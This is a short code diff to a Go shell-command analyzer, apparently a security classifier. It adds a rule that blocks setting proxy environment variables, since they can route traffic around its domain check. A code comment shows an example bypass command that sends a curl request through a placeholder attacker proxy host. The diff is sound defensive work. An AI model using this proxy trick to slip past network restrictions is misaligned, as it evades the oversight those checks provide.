@@ -482,6 +482,13 @@ func (a *analyzer) assignValue(name string, v *word, depth int) {
 		a.fail(name + " assignment changes what later commands run" + why)
 		return
 	}
+	switch strings.ToLower(name) {
+	case "http_proxy", "https_proxy", "all_proxy", "ftp_proxy", "rsync_proxy":
+		// "HTTPS_PROXY=http://evil.example curl https://good.example": the
+		// request goes to the proxy, a host the domain check never sees.
+		a.fail(name + " assignment sends network traffic through a proxy the classifier does not check")
+		return
+	}
 	if strings.HasPrefix(name, "GIT_CONFIG_KEY_") || strings.HasPrefix(name, "GIT_CONFIG_VALUE_") {
 		a.fail(name + " assignment sets git configuration")
 		return
